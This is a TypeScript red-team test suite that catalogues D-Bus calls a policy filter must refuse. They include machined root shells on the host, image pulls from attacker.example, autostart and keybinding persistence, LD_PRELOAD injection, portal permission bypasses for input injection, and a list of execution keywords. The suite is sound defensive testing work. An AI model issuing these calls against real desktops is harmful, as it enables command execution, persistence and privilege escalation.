import { describe } from 'node:test';
import type { Attack, Legitimate } from './redteam-support.js';
import { call, forbiddenEverywhere, stillAllowed } from './redteam-support.js';

/**
 * Red team, class "code execution": running a command directly, or indirectly — configuration that
 * runs a command later, installing a unit/file/extension/autostart entry, environment injection,
 * input injection into a terminal or the desktop (issue 12 §4; docs/SECURITY-REVIEW.md "code execution").
 */

const direct: Attack[] = [
  {
    what: 'machined OpenMachineShell(".host", "root", …) runs any command as any user on the host',
    ref: 'org.freedesktop.machine1(5): Manager.OpenMachineShell(s name, s user, s path, as args, as environment)',
    req: call(
      'system',
      'org.freedesktop.machine1',
      '/org/freedesktop/machine1',
      'org.freedesktop.machine1.Manager',
      'OpenMachineShell',
      ['.host', 'root', '/bin/sh', ['sh', '-c', 'id > /tmp/pwned'], []],
    ),
  },
  {
    what: 'machined Machine.OpenShell on the host machine object',
    ref: 'org.freedesktop.machine1(5): Machine.OpenShell(s user, s path, as args, as environment)',
    req: call(
      'system',
      'org.freedesktop.machine1',
      '/org/freedesktop/machine1/machine/_2ehost',
      'org.freedesktop.machine1.Machine',
      'OpenShell',
      ['root', '/bin/sh', ['sh', '-c', 'id'], []],
    ),
  },
  ...(['OpenMachineLogin', 'OpenMachinePTY'] as const).map((member): Attack => ({
    what: `machined ${member}(".host") opens a login/PTY on the host`,
    ref: 'org.freedesktop.machine1(5)',
    req: call(
      'system',
      'org.freedesktop.machine1',
      '/org/freedesktop/machine1',
      'org.freedesktop.machine1.Manager',
      member,
      ['.host'],
    ),
  })),
  {
    what: 'machined CopyToMachine copies host files into a container',
    ref: 'org.freedesktop.machine1(5): Manager.CopyToMachine(s name, s source, s destination)',
    req: call(
      'system',
      'org.freedesktop.machine1',
      '/org/freedesktop/machine1',
      'org.freedesktop.machine1.Manager',
      'CopyToMachine',
      ['web', '/home/u/payload', '/etc/profile.d/x.sh'],
    ),
  },
  {
    what: 'portabled AttachImage installs the unit files of an image (run as root on next start)',
    ref: 'org.freedesktop.portable1(5): Manager.AttachImage(s image, as matches, s profile, b runtime, s copy_mode)',
    req: call(
      'system',
      'org.freedesktop.portable1',
      '/org/freedesktop/portable1',
      'org.freedesktop.portable1.Manager',
      'AttachImage',
      ['/var/tmp/evil.raw', [], 'trusted', false, 'copy'],
    ),
  },
  {
    what: 'portabled ReattachImage (same, replacing an attached image)',
    ref: 'org.freedesktop.portable1(5): Manager.ReattachImage',
    req: call(
      'system',
      'org.freedesktop.portable1',
      '/org/freedesktop/portable1',
      'org.freedesktop.portable1.Manager',
      'ReattachImage',
      ['/var/tmp/evil.raw', [], 'trusted', false, 'copy'],
    ),
  },
  ...(
    [
      ['PullTar', ['https://attacker.example/evil.tar.xz', 'evil', 'no', true]],
      ['PullRaw', ['https://attacker.example/evil.raw', 'evil', 'no', true]],
    ] as const
  ).map(([member, args]): Attack => ({
    what: `importd ${member} downloads an image without verification into the machine/portable image pool`,
    ref: 'org.freedesktop.import1(5): Manager.PullTar/PullRaw(s url, s local_name, s verify_mode, b force)',
    req: call(
      'system',
      'org.freedesktop.import1',
      '/org/freedesktop/import1',
      'org.freedesktop.import1.Manager',
      member,
      [...args],
    ),
  })),
  {
    what: 'Terminator new_tab_cmdline runs a command in a new tab (issue 12 example)',
    ref: 'gnome-terminator terminatorlib/ipc.py: new_tab_cmdline(a{ss} options)',
    req: call(
      'session',
      'net.tenshu.Terminator2',
      '/net/tenshu/Terminator2',
      'net.tenshu.Terminator2',
      'new_tab_cmdline',
      [{ execute: 'sh -c id' }],
    ),
  },
  {
    what: 'Terminator new_window_cmdline (the same in a new window)',
    ref: 'gnome-terminator terminatorlib/ipc.py: new_window_cmdline(a{ss} options)',
    req: call(
      'session',
      'net.tenshu.Terminator2',
      '/net/tenshu/Terminator2',
      'net.tenshu.Terminator2',
      'new_window_cmdline',
      [{ execute: 'sh -c id' }],
    ),
  },
  {
    what: 'xfce4-terminal Launch(uid, display, argv) with "-x cmd"',
    ref: 'xfce-mirror/xfce4-terminal terminal/terminal-gdbus.c: org.xfce.Terminal5 Launch(u uid, ay display-name, aay argv)',
    req: call('session', 'org.xfce.Terminal5', '/org/xfce/Terminal', 'org.xfce.Terminal5', 'Launch', [
      1000,
      { text: ':0' },
      [{ text: 'xfce4-terminal' }, { text: '-x' }, { text: 'sh' }, { text: '-c' }, { text: 'id' }],
    ]),
  },
  {
    what: 'GApplication CommandLine to Tilix with "-e cmd" (issue 12 example)',
    ref: 'GLib gio/gapplicationimpl-dbus.c: org.gtk.Application.CommandLine(o path, aay arguments, a{sv} platform_data)',
    req: call('session', 'com.gexperts.Tilix', '/com/gexperts/Tilix', 'org.gtk.Application', 'CommandLine', [
      '/com/gexperts/Tilix/CommandLine/1',
      [{ text: 'tilix' }, { text: '-e' }, { text: 'sh -c id' }],
      {},
    ]),
  },
  {
    what: 'GApplication CommandLine to GNOME Console with "-e cmd"',
    ref: 'GLib org.gtk.Application; kgx accepts -e/--command',
    req: call('session', 'org.gnome.Console', '/org/gnome/Console', 'org.gtk.Application', 'CommandLine', [
      '/org/gnome/Console/CommandLine/1',
      [{ text: 'kgx' }, { text: '-e' }, { text: 'sh -c id' }],
      {},
    ]),
  },
  {
    what: 'Plasma evaluateScript runs desktop scripting JS (issue 12 example)',
    ref: 'org.kde.PlasmaShell.evaluateScript in /usr/bin/plasmashell (Debian 12 Plasma 5.27)',
    req: call('session', 'org.kde.plasmashell', '/PlasmaShell', 'org.kde.PlasmaShell', 'evaluateScript', [
      'print(1)',
    ]),
  },
  {
    what: 'KWin Script.run re-runs a loaded KWin script',
    ref: 'org.kde.kwin.Script (stop run) in libkwin.so.5 (Debian 12)',
    req: call('session', 'org.kde.KWin', '/Scripting/Script0', 'org.kde.kwin.Script', 'run'),
  },
];

const inputInjection: Attack[] = [
  ...(
    [
      ['/org/gnome/Mutter/RemoteDesktop', 'org.gnome.Mutter.RemoteDesktop', 'CreateSession', []],
      ['/org/gnome/Mutter/RemoteDesktop/Session/u1', 'org.gnome.Mutter.RemoteDesktop.Session', 'Start', []],
      [
        '/org/gnome/Mutter/RemoteDesktop/Session/u1',
        'org.gnome.Mutter.RemoteDesktop.Session',
        'NotifyKeyboardKeysym',
        [0xff0d, true],
      ],
      [
        '/org/gnome/Mutter/RemoteDesktop/Session/u1',
        'org.gnome.Mutter.RemoteDesktop.Session',
        'NotifyKeyboardKeycode',
        [28, true],
      ],
      [
        '/org/gnome/Mutter/RemoteDesktop/Session/u1',
        'org.gnome.Mutter.RemoteDesktop.Session',
        'NotifyPointerButton',
        [272, true],
      ],
      [
        '/org/gnome/Mutter/RemoteDesktop/Session/u1',
        'org.gnome.Mutter.RemoteDesktop.Session',
        'NotifyPointerMotionAbsolute',
        ['Meta-0', 10, 10],
      ],
    ] as const
  ).map(([path, iface, member, args]): Attack => ({
    what: `Mutter ${iface}.${member}: types and clicks as the user, no dialog`,
    ref: 'mutter src/org.gnome.Mutter.RemoteDesktop.xml; names in libmutter-11.so.0 (Debian 12 GNOME 43)',
    req: call('session', 'org.gnome.Mutter.RemoteDesktop', path, iface, member, [...args]),
  })),
  ...(
    [
      [
        'CreateSession',
        [
          '/org/freedesktop/portal/desktop/request/1_1/t',
          '/org/freedesktop/portal/desktop/session/1_1/t',
          '',
          {},
        ],
      ],
      ['NotifyKeyboardKeysym', ['/org/freedesktop/portal/desktop/session/1_1/t', {}, 0xff0d, 1]],
      ['NotifyPointerButton', ['/org/freedesktop/portal/desktop/session/1_1/t', {}, 272, 1]],
    ] as const
  ).map(([member, args]): Attack => ({
    what: `portal backend RemoteDesktop.${member} called directly, bypassing the frontend's permission check`,
    ref: 'xdg-desktop-portal-gnome 43 src/remotedesktop.c (org.freedesktop.impl.portal.RemoteDesktop, Debian 12)',
    req: call(
      'session',
      'org.freedesktop.impl.portal.desktop.gnome',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.impl.portal.RemoteDesktop',
      member,
      [...args],
    ),
  })),
  {
    what: 'KWin EIS connectToEIS(keyboard|pointer) hands out an input-emulation socket',
    ref: 'KWin 6 src/plugins/eis/eisbackend.cpp: org.kde.KWin.EIS.RemoteDesktop.connectToEIS(i capabilities)',
    req: call(
      'session',
      'org.kde.KWin',
      '/org/kde/KWin/EIS/RemoteDesktop',
      'org.kde.KWin.EIS.RemoteDesktop',
      'connectToEIS',
      [3],
    ),
  },
];

const codeLater: Attack[] = [
  {
    what: 'dconf Writer.Change writes any GSettings key: a custom keybinding command, the default terminal, …',
    ref: 'dconf service/dconf-writer.c: ca.desrt.dconf.Writer.Change(ay blob) — /usr/libexec/dconf-service (Debian 12)',
    req: call('session', 'ca.desrt.dconf', '/ca/desrt/dconf/Writer/user', 'ca.desrt.dconf.Writer', 'Change', [
      [0],
    ]),
  },
  {
    what: 'Xfconf SetProperty xfce4-keyboard-shortcuts /commands/custom/<Super>t = "sh -c …"',
    ref: 'xfce-mirror/xfconf common/xfconf-dbus.xml: org.xfce.Xfconf.SetProperty(s channel, s property, v value)',
    req: call('session', 'org.xfce.Xfconf', '/org/xfce/Xfconf', 'org.xfce.Xfconf', 'SetProperty', [
      'xfce4-keyboard-shortcuts',
      '/commands/custom/<Super>t',
      { signature: 's', value: 'sh -c id' },
    ]),
  },
  {
    what: 'portal backend Background.EnableAutostart writes ~/.config/autostart/<app_id>.desktop with Exec=<commandline>',
    ref: 'GNOME/xdg-desktop-portal-gnome 43.1 src/background.c handle_enable_autostart (Debian 12 package 43.1-2)',
    req: call(
      'session',
      'org.freedesktop.impl.portal.desktop.gnome',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.impl.portal.Background',
      'EnableAutostart',
      ['evil', true, ['sh', '-c', 'id'], 0],
    ),
  },
  {
    what: 'portal Background.RequestBackground with autostart + commandline',
    ref: 'flatpak/xdg-desktop-portal src/background.c; org.freedesktop.portal.Background',
    req: call(
      'session',
      'org.freedesktop.portal.Desktop',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.portal.Background',
      'RequestBackground',
      ['', { autostart: true, commandline: ['sh', '-c', 'id'], reason: 'x' }],
    ),
  },
  {
    what: 'permission store SetPermission screenshot=yes for every app: the screenshot dialog never shows again',
    ref: 'xdg-desktop-portal document-portal/permission-store.c; /usr/libexec/xdg-permission-store (Debian 12)',
    req: call(
      'session',
      'org.freedesktop.impl.portal.PermissionStore',
      '/org/freedesktop/impl/portal/PermissionStore',
      'org.freedesktop.impl.portal.PermissionStore',
      'SetPermission',
      ['screenshot', true, 'screenshot', '', ['yes']],
    ),
  },
  {
    what: 'permission store Set: a whole permission entry at once',
    ref: 'org.freedesktop.impl.portal.PermissionStore.Set(s table, b create, s id, a{sas} app_permissions, v data)',
    req: call(
      'session',
      'org.freedesktop.impl.portal.PermissionStore',
      '/org/freedesktop/impl/portal/PermissionStore',
      'org.freedesktop.impl.portal.PermissionStore',
      'Set',
      ['devices', true, 'camera', { '': ['yes'] }, { signature: 'b', value: true }],
    ),
  },
  {
    what: 'Nautilus CopyURIs fetches a remote .desktop file into ~/.config/autostart',
    ref: 'nautilus data/dbus-interfaces.xml: org.gnome.Nautilus.FileOperations2.CopyURIs(as sources, s destination, a{sv})',
    req: call(
      'session',
      'org.gnome.Nautilus',
      '/org/gnome/Nautilus/FileOperations2',
      'org.gnome.Nautilus.FileOperations2',
      'CopyURIs',
      [['https://attacker.example/evil.desktop'], 'file:///home/user/.config/autostart', {}],
    ),
  },
  {
    what: 'GNOME Shell EnableExtension runs an installed extension inside the shell',
    ref: 'gnome-shell dbus-interfaces org.gnome.Shell.Extensions.xml (Debian 12)',
    req: call(
      'session',
      'org.gnome.Shell',
      '/org/gnome/Shell',
      'org.gnome.Shell.Extensions',
      'EnableExtension',
      ['evil@example.com'],
    ),
  },
];

const environment: Attack[] = [
  {
    what: 'gnome-session Setenv("LD_PRELOAD", …) for every app it starts',
    ref: 'gnome-session gnome-session/org.gnome.SessionManager.xml: Setenv(s variable, s value)',
    req: call(
      'session',
      'org.gnome.SessionManager',
      '/org/gnome/SessionManager',
      'org.gnome.SessionManager',
      'Setenv',
      ['LD_PRELOAD', '/tmp/evil.so'],
    ),
  },
  {
    what: 'cinnamon-session Setenv',
    ref: 'linuxmint/cinnamon-session org.cinnamon.SessionManager.xml: Setenv(s variable, s value)',
    req: call(
      'session',
      'org.cinnamon.SessionManager',
      '/org/cinnamon/SessionManager',
      'org.cinnamon.SessionManager',
      'Setenv',
      ['LD_PRELOAD', '/tmp/evil.so'],
    ),
  },
];

const words: Attack[] = (
  [
    'execute',
    'Execute',
    'RunScript',
    'run_script',
    'EvaluateScript',
    'EvalScript',
    'EvalJS',
    'runCommandLine',
    'RunShellCommand',
    'ExecCommand',
    'exec_blind',
    'SpawnAsync',
    'SpawnCommandLine',
    'LaunchCommand',
    'ExecuteScript',
  ] as const
).map((member): Attack => ({
  what: 'an execution word on an unknown interface',
  ref: 'issue 12 §4 "member names that evaluate, execute, spawn or run a command line or script"',
  req: call('session', 'com.example.Daemon', '/com/example/Daemon', 'com.example.Daemon', member, ['id']),
}));

const refused: Attack[] = [
  {
    what: 'systemd StartTransientUnit (user manager)',
    ref: 'org.freedesktop.systemd1(5)',
    req: call(
      'session',
      'org.freedesktop.systemd1',
      '/org/freedesktop/systemd1',
      'org.freedesktop.systemd1.Manager',
      'StartTransientUnit',
      [
        'x.service',
        'fail',
        [['ExecStart', { signature: 'a(sasb)', value: [['/bin/sh', ['sh', '-c', 'id'], false]] }]],
        [],
      ],
    ),
  },
  ...['SetEnvironment', 'UnsetAndSetEnvironment'].map((member): Attack => ({
    what: 'systemd manager environment',
    ref: 'org.freedesktop.systemd1(5)',
    req: call(
      'session',
      'org.freedesktop.systemd1',
      '/org/freedesktop/systemd1',
      'org.freedesktop.systemd1.Manager',
      member,
      [['LD_PRELOAD=/x']],
    ),
  })),
  {
    what: 'GNOME Shell Eval',
    ref: 'gnome-shell org.gnome.Shell.xml',
    req: call('session', 'org.gnome.Shell', '/org/gnome/Shell', 'org.gnome.Shell', 'Eval', ['1']),
  },
  {
    what: 'Cinnamon Eval (caught by the global floor)',
    ref: 'cinnamon js/ui/cinnamonDBus.js org.Cinnamon.Eval',
    req: call('session', 'org.Cinnamon', '/org/Cinnamon', 'org.Cinnamon', 'Eval', ['1']),
  },
  {
    what: 'GNOME Shell InstallRemoteExtension',
    ref: 'org.gnome.Shell.Extensions.xml',
    req: call(
      'session',
      'org.gnome.Shell',
      '/org/gnome/Shell',
      'org.gnome.Shell.Extensions',
      'InstallRemoteExtension',
      ['x@y'],
    ),
  },
  {
    what: 'Flatpak portal Spawn',
    ref: 'flatpak portal/org.freedesktop.portal.Flatpak.xml',
    req: call(
      'session',
      'org.freedesktop.portal.Flatpak',
      '/org/freedesktop/portal/Flatpak',
      'org.freedesktop.portal.Flatpak',
      'Spawn',
      [{ text: '/' }, [{ text: 'sh' }], {}, {}, 0, {}],
    ),
  },
  {
    what: 'Flatpak HostCommand',
    ref: 'flatpak session-helper org.freedesktop.Flatpak.Development',
    req: call(
      'session',
      'org.freedesktop.Flatpak',
      '/org/freedesktop/Flatpak/Development',
      'org.freedesktop.Flatpak.Development',
      'HostCommand',
      [{ text: '/' }, [{ text: 'sh' }], {}, {}, 0],
    ),
  },
  {
    what: 'KWin loadScript / loadDeclarativeScript',
    ref: 'org.kde.kwin.Scripting',
    req: call('session', 'org.kde.KWin', '/Scripting', 'org.kde.kwin.Scripting', 'loadScript', [
      '/tmp/x.js',
      'x',
    ]),
  },
  ...(['exec_blind', 'kdeinit_exec', 'setLaunchEnv', 'start_service_by_desktop_path'] as const).map(
    (member): Attack => ({
      what: 'KLauncher',
      ref: 'kinit org.kde.KLauncher',
      req: call('session', 'org.kde.klauncher5', '/KLauncher', 'org.kde.KLauncher', member, ['sh']),
    }),
  ),
  {
    what: 'KRunner Run',
    ref: 'kf5_org.kde.krunner1.xml (/usr/share/dbus-1/interfaces, Debian 12)',
    req: call('session', 'org.kde.runners.baloo', '/runner', 'org.kde.krunner1', 'Run', ['x', 'y']),
  },
  ...(['sendText', 'runCommand'] as const).map((member): Attack => ({
    what: 'Konsole session input',
    ref: 'konsole org.kde.konsole.Session',
    req: call('session', 'org.kde.konsole', '/Sessions/1', 'org.kde.konsole.Session', member, ['id\n']),
  })),
  {
    what: 'Yakuake runCommandInTerminal',
    ref: 'yakuake org.kde.yakuake',
    req: call('session', 'org.kde.yakuake', '/yakuake/sessions', 'org.kde.yakuake', 'runCommandInTerminal', [
      0,
      'id',
    ]),
  },
  {
    what: 'Guake execute_command',
    ref: 'guake dbusiface.py org.guake3.RemoteControl',
    req: call(
      'session',
      'org.guake3.RemoteControl',
      '/org/guake3/RemoteControl',
      'org.guake3.RemoteControl',
      'execute_command',
      ['id'],
    ),
  },
  {
    what: 'GNOME Terminal Exec',
    ref: 'gnome-terminal org.gnome.Terminal.Terminal0.Exec',
    req: call(
      'session',
      'org.gnome.Terminal',
      '/org/gnome/Terminal/window/1',
      'org.gnome.Terminal.Terminal0',
      'Exec',
      [{}, []],
    ),
  },
  {
    what: 'portal DynamicLauncher Install',
    ref: 'xdg-desktop-portal org.freedesktop.portal.DynamicLauncher',
    req: call(
      'session',
      'org.freedesktop.portal.Desktop',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.portal.DynamicLauncher',
      'Install',
      ['tok', 'x.desktop', '[Desktop Entry]', {}],
    ),
  },
  {
    what: 'portal RemoteDesktop NotifyKeyboardKeysym',
    ref: 'xdg-desktop-portal org.freedesktop.portal.RemoteDesktop',
    req: call(
      'session',
      'org.freedesktop.portal.Desktop',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.portal.RemoteDesktop',
      'NotifyKeyboardKeysym',
      ['/s', {}, 65, 1],
    ),
  },
  ...(['Eval', 'Exec', 'Spawn', 'run_command', 'ExecuteCommand', 'send_text'] as const).map(
    (member): Attack => ({
      what: 'a floor word on an unknown interface',
      ref: 'src/worker/policy/floor.ts GLOBAL_FORBIDDEN',
      req: call('session', 'com.example.Daemon', '/com/example/Daemon', 'com.example.Daemon', member, ['id']),
    }),
  ),
];

const legitimate: Legitimate[] = [
  {
    what: 'opening a URI through the portal',
    req: call(
      'session',
      'org.freedesktop.portal.Desktop',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.portal.OpenURI',
      'OpenURI',
      ['', 'https://example.com', {}],
    ),
    level: 'medium',
    kind: 'desktop_action',
  },
  {
    what: 'reading a setting through the portal',
    req: call(
      'session',
      'org.freedesktop.portal.Desktop',
      '/org/freedesktop/portal/desktop',
      'org.freedesktop.portal.Settings',
      'Read',
      ['org.freedesktop.appearance', 'color-scheme'],
    ),
    level: 'high',
    kind: 'read',
  },
  {
    what: 'listing shell extensions',
    req: call(
      'session',
      'org.gnome.Shell',
      '/org/gnome/Shell',
      'org.gnome.Shell.Extensions',
      'ListExtensions',
    ),
    level: 'high',
    kind: 'read',
  },
  {
    what: 'reading an Xfconf property',
    req: call('session', 'org.xfce.Xfconf', '/org/xfce/Xfconf', 'org.xfce.Xfconf', 'GetProperty', [
      'xfwm4',
      '/general/theme',
    ]),
    level: 'high',
    kind: 'read',
  },
];

describe('redteam: code execution — bypasses found by the red team (refused now; todo while a class is open)', () => {
  describe('direct: a command line reaches a service that runs it', () => forbiddenEverywhere(direct));
  describe('input injection into the desktop', () => forbiddenEverywhere(inputInjection));
  describe('later: configuration, autostart entries, permissions', () => forbiddenEverywhere(codeLater));
  describe('environment injection', () => forbiddenEverywhere(environment));
  describe('execution words on unknown interfaces', () => forbiddenEverywhere(words));
});

describe('redteam: code execution — refused today (regression guards)', () => forbiddenEverywhere(refused));

describe('redteam: code execution — what a fix must not break', () => stillAllowed(legitimate));
